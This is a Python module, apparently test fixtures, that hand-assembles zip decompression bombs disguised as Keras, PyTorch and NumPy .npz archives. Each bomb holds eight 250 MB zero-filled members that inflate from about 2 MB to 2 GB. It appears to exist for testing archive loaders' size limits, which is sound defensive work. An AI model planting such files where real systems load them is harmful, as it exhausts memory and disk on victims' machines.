"""Multi-member decompression bombs: many members, each under any per-member limit.

Eight members of 250 MB of zeros each deflate to about 240 KB apiece: a 2 MB file that
inflates to 2 GB. The zeros are compressed once and the same bytes written for every member
(the zip is assembled by hand, which is also how an attacker builds one), so building the
payload costs well under a second.
"""

from __future__ import annotations

import functools
import io
import json
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np

MEMBER_BYTES = 250_000_000
MEMBERS = 8
_CHUNK = 1 << 22


@functools.cache
def _zeros_stream(zeros: int) -> tuple[bytes, int]:
    """Raw deflate of `zeros` zero bytes (computed once per process) and their crc32."""
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    parts, crc, left = [], 0, zeros
    block = bytes(_CHUNK)
    while left:
        piece = block if left >= _CHUNK else bytes(left)
        parts.append(compressor.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    parts.append(compressor.flush())
    return b"".join(parts), crc


def _deflated(content_head: bytes, zeros: int) -> tuple[bytes, int, int]:
    """Raw deflate of `content_head` + `zeros` zero bytes: (data, crc32, size).

    The head is deflated on its own and ended with a full flush (byte-aligned, not final, no
    back-references), so the cached stream of zeros can follow it as it is.
    """
    stream, zeros_crc = _zeros_stream(zeros)
    if not content_head:
        return stream, zeros_crc, zeros
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    head = compressor.compress(content_head) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(content_head)
    block = bytes(_CHUNK)
    left = zeros
    while left:
        piece = block if left >= _CHUNK else bytes(left)
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    return head + stream, crc, len(content_head) + zeros


def _write_zip(
    path: Path, small: dict[str, bytes], big: list[str], blob: tuple[bytes, int, int]
) -> Path:
    """A zip of `small` members (stored) and `big` members that all hold `blob` (deflated)."""
    out = io.BytesIO()
    central: list[bytes] = []

    def add(name: str, method: int, data: bytes, crc: int, size: int) -> None:
        encoded = name.encode()
        offset = out.tell()
        sizes = (crc, len(data), size, len(encoded))
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, *sizes, 0))
        out.write(encoded + data)
        record = struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, *sizes, 0, 0, 0, 0, 0, offset
        )
        central.append(record + encoded)

    for name, data in small.items():
        add(name, zipfile.ZIP_STORED, data, zlib.crc32(data), len(data))
    for name in big:
        add(name, zipfile.ZIP_DEFLATED, *blob)
    start = out.tell()
    for record in central:
        out.write(record)
    size = out.tell() - start
    out.write(
        struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), size, start, 0)
    )
    path.write_bytes(out.getvalue())
    return path


def keras_bomb(path: Path) -> Path:
    """A .keras archive (config.json, metadata.json) plus 8 asset members of 250 MB each."""
    small = {
        "metadata.json": json.dumps({"keras_version": "3.15.1"}).encode(),
        "config.json": json.dumps({"class_name": "Sequential", "config": {"layers": []}}).encode(),
    }
    big = [f"assets/blob_{i}" for i in range(MEMBERS)]
    return _write_zip(path, small, big, _deflated(b"", MEMBER_BYTES))


def torch_bomb(path: Path) -> Path:
    """A torch.save-shaped archive whose 8 storages declare 250 MB each."""
    small = {"archive/data.pkl": b"\x80\x02}q\x00.", "archive/version": b"3\n"}
    big = [f"archive/data/{i}" for i in range(MEMBERS)]
    return _write_zip(path, small, big, _deflated(b"", MEMBER_BYTES))


def npz_bomb(path: Path) -> Path:
    """An .npz whose 8 arrays are honest 250 MB arrays of zeros (headers match the data)."""
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        head, {"descr": "<f4", "fortran_order": False, "shape": (MEMBER_BYTES // 4,)}
    )
    names = ["x_train", "y_train", "x_val", "y_val", *(f"extra_{i}" for i in range(MEMBERS - 4))]
    blob = _deflated(head.getvalue(), MEMBER_BYTES)
    return _write_zip(path, {}, [f"{n}.npy" for n in names], blob)
